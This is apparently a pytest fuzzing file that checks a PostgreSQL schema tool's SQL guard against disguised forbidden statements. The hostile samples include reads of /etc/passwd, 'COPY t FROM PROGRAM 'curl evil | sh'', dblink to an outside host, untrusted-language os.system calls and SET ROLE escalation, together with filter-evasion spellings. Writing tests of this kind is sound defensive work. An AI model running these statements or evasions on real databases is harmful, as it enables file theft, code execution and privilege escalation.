"""SQL guard fuzzing: forbidden constructs in disguise — case, quoting (``U&"…"``, ``E'…'``), nested dollar
quotes, comments, schema qualification, casts, dynamic SQL in plpgsql, calls hidden in defaults, generated
columns, views, policies, index expressions and more — and none of them gets past the guard.

Every hostile statement is first parsed by PostgreSQL's own parser (postgast), so each one counted is real SQL
that PostgreSQL would run; a refusal for a syntax error would prove nothing. The guard is then asked about it
exactly as the CLI and operator ask (``spec.sql``: :func:`~schemawright.guard.guard_script`; document fields:
:func:`~schemawright.guard.check_expression`). The normal suite runs a fixed sample;
``SCHEMAWRIGHT_RELIABILITY_FULL=1`` runs every combination.
"""

from __future__ import annotations

import itertools
import os
import random
from collections.abc import Callable, Iterator

import postgast
import pytest

from schemawright.errors import GuardError
from schemawright.guard import check_expression, guard_script

FULL = os.environ.get("SCHEMAWRIGHT_RELIABILITY_FULL") == "1"
# Hostile statements per check (a fixed seed: the same ones every run); the full run tries every combination of
# call, spelling and argument form in every carrier once (a few thousand), not their whole product (~100,000).
SAMPLE = 6000 if FULL else 400

# -------------------------------------------------------------------------------------------------------------
# Forbidden calls: (function name, arguments). Each reads files, runs programs, reaches other databases or
# controls the server.

CALLS = [
    ("pg_read_file", "'/etc/passwd'"),
    ("pg_read_binary_file", "'/etc/passwd'"),
    ("pg_stat_file", "'postgresql.conf'"),
    ("pg_ls_dir", "'.'"),
    ("lo_import", "'/etc/passwd'"),
    ("lo_export", "1, '/tmp/x'"),
    ("dblink", "'host=evil', 'select 1'"),
    ("dblink_exec", "'dbname=postgres', 'drop database x'"),
    ("set_config", "'role', 'postgres', false"),
    ("pg_terminate_backend", "1"),
    ("pg_reload_conf", ""),
    ("query_to_xml", "'select 1', true, true, ''"),
    ("pg_file_write", "'x', 'y', false"),
    ("pg_stat_reset", ""),
]


def _unicode_escaped(name: str) -> str:
    """``U&"\\0070g_read_file"``: PostgreSQL reads the name pg_read_file."""
    return 'U&"\\' + f"{ord(name[0]):04x}" + name[1:] + '"'


def _mixed(name: str) -> str:
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(name))


# How a function's name is written: each spelling names the same function for PostgreSQL.
SPELLINGS: list[Callable[[str], str]] = [
    lambda n: n,
    str.upper,
    _mixed,
    lambda n: f'"{n}"',
    _unicode_escaped,
    lambda n: f"pg_catalog.{n}",
    lambda n: f'"pg_catalog"."{n}"',
    lambda n: f"PG_CATALOG.{n.upper()}",
    lambda n: f"pg_catalog . /* hidden */ {n}",
    lambda n: f"pg_catalog.{_unicode_escaped(n)}",
    lambda n: f"/* {n} */ {n} /* -- */",
]


def _args(args: str) -> Iterator[str]:
    """The arguments as written, then through casts and escape strings."""
    yield args
    if args.startswith("'"):
        first, _, rest = args.partition(",")
        yield ", ".join(filter(None, [f"{first}::text", rest.strip()]))
        yield ", ".join(filter(None, [f"CAST({first} AS text)", rest.strip()]))
        yield ", ".join(filter(None, ["E" + first.replace("/", "\\x2f", 1), rest.strip()]))
        yield ", ".join(filter(None, ["$q$" + first.strip("'") + "$q$", rest.strip()]))


def hostile_calls() -> list[str]:
    """Every forbidden call in every spelling and argument form."""
    return [f"{spell(name)}({written})" for name, args in CALLS for spell in SPELLINGS for written in _args(args)]


def _wrapped(call: str) -> Iterator[str]:
    """The call as a value of another expression: a cast, a subquery, a CASE, a coalesce."""
    yield call
    yield f"({call})::text"
    yield f"(SELECT {call})"
    yield f"CASE WHEN true THEN ({call})::text END"
    yield f"coalesce(NULL, ({call})::text)"


# Where an expression can hide inside an otherwise allowed statement. {e} is the expression; every template
# runs after "CREATE TABLE t (a text)".
CARRIERS = {
    "column default": "CREATE TABLE c (x text DEFAULT ({e})::text)",
    "generated column": "CREATE TABLE c (a text, x text GENERATED ALWAYS AS (({e})::text) STORED)",
    "check constraint": "CREATE TABLE c (x text CHECK (({e})::text IS NOT NULL))",
    "alter default": "ALTER TABLE t ALTER COLUMN a SET DEFAULT ({e})::text",
    "alter check": "ALTER TABLE t ADD CONSTRAINT k CHECK (({e})::text IS NOT NULL) NOT VALID",
    "type change using": "ALTER TABLE t ALTER COLUMN a TYPE text USING ({e})::text",
    "view": "CREATE VIEW v AS SELECT ({e})::text AS x",
    "view subquery": "CREATE VIEW v AS SELECT * FROM (SELECT ({e})::text AS x) s",
    "view cte": "CREATE VIEW v AS WITH w AS (SELECT ({e})::text AS x) SELECT x FROM w",
    "materialized view": "CREATE MATERIALIZED VIEW m AS SELECT ({e})::text AS x WITH NO DATA",
    "policy using": "CREATE POLICY p ON t USING (({e})::text IS NOT NULL)",
    "policy with check": "CREATE POLICY p ON t FOR INSERT WITH CHECK (({e})::text IS NOT NULL)",
    "index expression": "CREATE INDEX i ON t ((({e})::text))",
    "index predicate": "CREATE INDEX i ON t (a) WHERE ({e})::text IS NOT NULL",
    "exclusion constraint": "ALTER TABLE t ADD CONSTRAINT x EXCLUDE USING btree ((({e})::text) WITH =)",
    "statistics": "CREATE STATISTICS s ON (({e})::text), a FROM t",
    "partition bound": "CREATE TABLE pt (a text) PARTITION BY LIST (a); "
    "CREATE TABLE pt1 PARTITION OF pt FOR VALUES IN (({e})::text)",
    "domain check": "CREATE DOMAIN d AS text CHECK (({e})::text IS NOT NULL)",
    "domain default": "CREATE DOMAIN d AS text DEFAULT ({e})::text",
    "function parameter default": "CREATE FUNCTION f(x text DEFAULT ({e})::text) RETURNS text LANGUAGE sql "
    "AS 'SELECT x'",
    "sql function body": "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT ({e})::text $$",
    "sql standard body": "CREATE FUNCTION f() RETURNS text LANGUAGE sql RETURN ({e})::text",
    "sql body in E string": "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS E'SELECT ({e_escaped})::text'",
    "nested dollar quotes": "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $outer$ DECLARE s text := "
    "$inner$ $outer $inner$; BEGIN RETURN ({e})::text; END $outer$",
    "plpgsql perform": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM {e}; END $$",
    "plpgsql assignment": "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $f$ DECLARE r text; "
    "BEGIN r := ({e})::text; RETURN r; END $f$",
    "plpgsql declare default": "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ DECLARE r text := "
    "({e})::text; BEGIN RETURN r; END $$",
    "procedure body": "CREATE PROCEDURE pr() LANGUAGE sql AS $$ SELECT ({e})::text $$",
    "trigger when": "CREATE FUNCTION tf() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$; "
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW WHEN (({e})::text IS NOT NULL) "
    "EXECUTE FUNCTION tf()",
    "plpgsql execute format": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
    "EXECUTE format('SELECT %s', {e_quoted}); END $$",
    "plpgsql execute concat": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
    "EXECUTE 'SELECT ' || {e_quoted}; END $$",
    "plpgsql return query execute": "CREATE FUNCTION f() RETURNS SETOF text LANGUAGE plpgsql AS $$ BEGIN "
    "RETURN QUERY EXECUTE {e_quoted}; END $$",
    "plpgsql open cursor execute": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c refcursor; "
    "BEGIN OPEN c FOR EXECUTE {e_quoted}; END $$",
}

# Whole statements that are forbidden in themselves, each in several disguises.
STATEMENTS = [
    "COPY t FROM '/etc/passwd'",
    "COPY t TO PROGRAM 'id'",
    "copy (SELECT 1) TO '/tmp/out'",
    "COPY t FROM PROGRAM 'curl evil | sh'",
    "DO $$ BEGIN PERFORM 1; END $$",
    "DO LANGUAGE plpgsql $do$ BEGIN EXECUTE 'select 1'; END $do$",
    "do E'BEGIN NULL; END'",
    "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
    "ALTER SYSTEM RESET ALL",
    "SET ROLE postgres",
    "SET LOCAL ROLE postgres",
    "SET role = 'postgres'",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ROLE",
    "RESET SESSION AUTHORIZATION",
    "SET session_authorization = 'postgres'",
    "CREATE EXTENSION dblink",
    'CREATE EXTENSION "dblink"',
    'CREATE EXTENSION U&"\\0064blink"',
    "CREATE EXTENSION adminpack",
    "CREATE EXTENSION file_fdw",
    "CREATE EXTENSION postgres_fdw",
    "CREATE EXTENSION plpython3u",
    "CREATE EXTENSION IF NOT EXISTS plperlu",
    "CREATE EXTENSION citext CASCADE",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os; os.system(\"id\")'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE 'plperlu' AS 'system(\"id\")'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE \"plpython3u\" AS 'return 1'",
    "CREATE FUNCTION f() RETURNS int AS '/lib/evil.so', 'f' LANGUAGE c",
    "CREATE FUNCTION f() RETURNS int AS 'evil', 'f' LANGUAGE 'C'",
    "CREATE FUNCTION f() RETURNS int AS 'int4in' LANGUAGE internal",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql LEAKPROOF AS 'SELECT 1'",
    "CREATE LANGUAGE plpython3u",
    "CREATE TRUSTED LANGUAGE evil HANDLER plpgsql_call_handler",
    "LOAD '/tmp/evil.so'",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "WITH d AS (INSERT INTO t VALUES ('x') RETURNING *) SELECT 1",
    "CREATE VIEW v AS WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d",
    "CREATE VIEW v AS WITH d AS (UPDATE t SET a = 'x' RETURNING a) SELECT a FROM d",
    "DELETE FROM t",
    "UPDATE t SET a = 'x'",
    "TRUNCATE t",
    "SELECT pg_sleep(10)",
    "CREATE TABLE c AS SELECT * FROM pg_authid",
    "SELECT * INTO c FROM t",
    "CREATE ROLE evil SUPERUSER",
    "ALTER ROLE current_user SUPERUSER",
    "ALTER USER postgres PASSWORD 'x'",
    "GRANT pg_read_server_files TO current_user",
    "GRANT pg_execute_server_program TO app",
    "CREATE DATABASE evil",
    "DROP DATABASE postgres",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
    "CREATE FOREIGN DATA WRAPPER w",
    "CREATE USER MAPPING FOR current_user SERVER s",
    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
    "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
    "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p",
    "CREATE PUBLICATION p FOR ALL TABLES",
    "CREATE TABLESPACE ts LOCATION '/tmp'",
    "ALTER TABLE t SET TABLESPACE pg_global",
    "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
    "SECURITY LABEL ON TABLE t IS 'x'",
    "ALTER FUNCTION pg_read_file(text) OWNER TO app",
    "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app",
    "GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO app",
    "CREATE TABLE pg_catalog.evil (a int)",
    "CREATE FUNCTION pg_catalog.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1'",
    "ALTER TABLE pg_catalog.pg_class ADD COLUMN x int",
    "CREATE TEMPORARY TABLE tmp (a int)",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "VACUUM FULL t",
    "CHECKPOINT",
    "LISTEN x",
    "NOTIFY x",
    "PREPARE q AS SELECT 1",
    "EXECUTE q",
    "CALL pr()",
    "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
    "DISCARD ALL",
    "ALTER DATABASE postgres SET search_path = evil",
    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
    "GRANT ALL ON t TO PUBLIC",
    "REFRESH MATERIALIZED VIEW m",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'postgres' AS 'SELECT 1'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET session_authorization = 'postgres' AS 'SELECT 1'",
    "CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)",
    "CREATE OPERATOR ### (PROCEDURE = pg_catalog.pg_read_file, RIGHTARG = text)",
    "CREATE CAST (int AS text) WITH FUNCTION pg_catalog.pg_read_file(text)",
    "CREATE AGGREGATE a(text) (SFUNC = pg_catalog.pg_read_file, STYPE = text)",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION pg_catalog.pg_read_file()",
    "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('COPY t TO %L', '/tmp/x'); "
    "RETURN NEW; END $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY t TO '/tmp/x'; END $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN SET ROLE postgres; END $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN RESET ROLE; END $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SET ROLE postgres $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ ALTER SYSTEM SET fsync = off $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC SELECT pg_catalog.set_config('role', 'x', false); END",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN CREATE EXTENSION dblink; END $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $a$ BEGIN PERFORM $b$ x $b$; DO $c$ BEGIN NULL; END $c$;"
    " END $a$",
]


def _statement_disguises(statement: str) -> Iterator[str]:
    """The same statement with a leading comment, in upper and mixed case (outside quotes is enough: the
    keywords), after a harmless statement on the same line, and split over lines by comments."""
    yield statement
    yield f"/* harmless */ {statement}"
    yield f"-- a comment line\n{statement}"
    yield statement.replace(" ", "\n  ", 2)
    yield statement.replace(" ", " /* x */ ", 1)
    head, _, tail = statement.partition(" ")
    yield f"{head.lower()} {tail}"
    yield f"{_mixed(head.lower())} {tail}"
    yield f"COMMENT ON TABLE t IS 'fine'; {statement}"


def _parses(script: str) -> bool:
    try:
        postgast.parse(script)
    except postgast.PgQueryError:
        return False
    return True


def _sample(items: list[str], seed: int) -> list[str]:
    if len(items) <= SAMPLE:
        return items
    return sorted(random.Random(seed).sample(items, SAMPLE))


def _refused(script: str) -> bool:
    try:
        guard_script("CREATE TABLE t (a text);\n" + script, origin="fuzz.yaml: spec.sql")
    except GuardError as error:
        return error.index >= 2 and "invalid SQL" not in error.kind
    return False


def hostile_scripts() -> list[str]:
    """Every forbidden call hidden in every carrier (valid SQL only)."""
    scripts = []
    for call in hostile_calls():
        for expression, (_, template) in itertools.product(_wrapped(call), CARRIERS.items()):
            quoted = "'" + expression.replace("'", "''") + "'"
            escaped = expression.replace("\\", "\\\\").replace("'", "''")  # inside E'…' a backslash is doubled
            script = template.format(e=expression, e_escaped=escaped, e_quoted=quoted)
            scripts.append(script)
    return scripts


def _assert_all_refused(reliability: Callable[..., None], check: str, title: str, scripts: list[str]) -> None:
    assert all(_parses(s) for s in scripts), "a generated statement is not valid SQL"
    through = [s for s in scripts if not _refused(s)]
    reliability(
        check, section="guard", unit="statements", title=title, tried=len(scripts), passed=len(scripts) - len(through)
    )
    assert through == []


def test_forbidden_calls_hidden_in_allowed_statements_never_pass(reliability: Callable[..., None]) -> None:
    _assert_all_refused(
        reliability,
        "guard.hidden-calls",
        "forbidden calls (files, programs, other databases, server control) in disguise, hidden in "
        "defaults, generated columns, checks, views, policies, indexes, partition bounds, bodies",
        _sample(hostile_scripts(), seed=13),
    )


def test_forbidden_statements_in_disguise_never_pass(reliability: Callable[..., None]) -> None:
    scripts = [d for s in STATEMENTS for d in _statement_disguises(s)]
    assert len(scripts) >= 8 * len(STATEMENTS)
    _assert_all_refused(
        reliability,
        "guard.statements",
        "forbidden statements (COPY, DO, ALTER SYSTEM, SET ROLE, untrusted languages, extensions, "
        "data-modifying WITH, roles, …) through case, comments and line breaks",
        scripts,
    )


def test_forbidden_calls_in_document_expressions_never_pass(reliability: Callable[..., None]) -> None:
    """Document fields (a default, a check, an index WHERE, a policy) are single expressions."""
    expressions = _sample([e for call in hostile_calls() for e in _wrapped(call)], seed=31)
    through = []
    for expression in expressions:
        try:
            check_expression(expression, origin="spec.tables[0].columns[0].default")
        except GuardError as error:
            if "invalid" in error.kind and "comment" not in error.reason:
                through.append(f"{expression}: {error.reason}")  # refused, but for the wrong reason
            continue
        through.append(expression)
    reliability(
        "guard.expressions",
        section="guard",
        unit="expressions",
        title="forbidden calls in disguise as a document's default, check, index or policy expression",
        tried=len(expressions),
        passed=len(expressions) - len(through),
    )
    assert through == []


@pytest.mark.parametrize("name", [name for name, _ in CALLS])
def test_every_spelling_of_a_forbidden_function_names_it(name: str) -> None:
    for spell in SPELLINGS:
        with pytest.raises(GuardError, match="rule forbidden-function"):
            guard_script(f"CREATE VIEW v AS SELECT {spell(name)}() AS x", origin="fuzz.yaml: spec.sql")
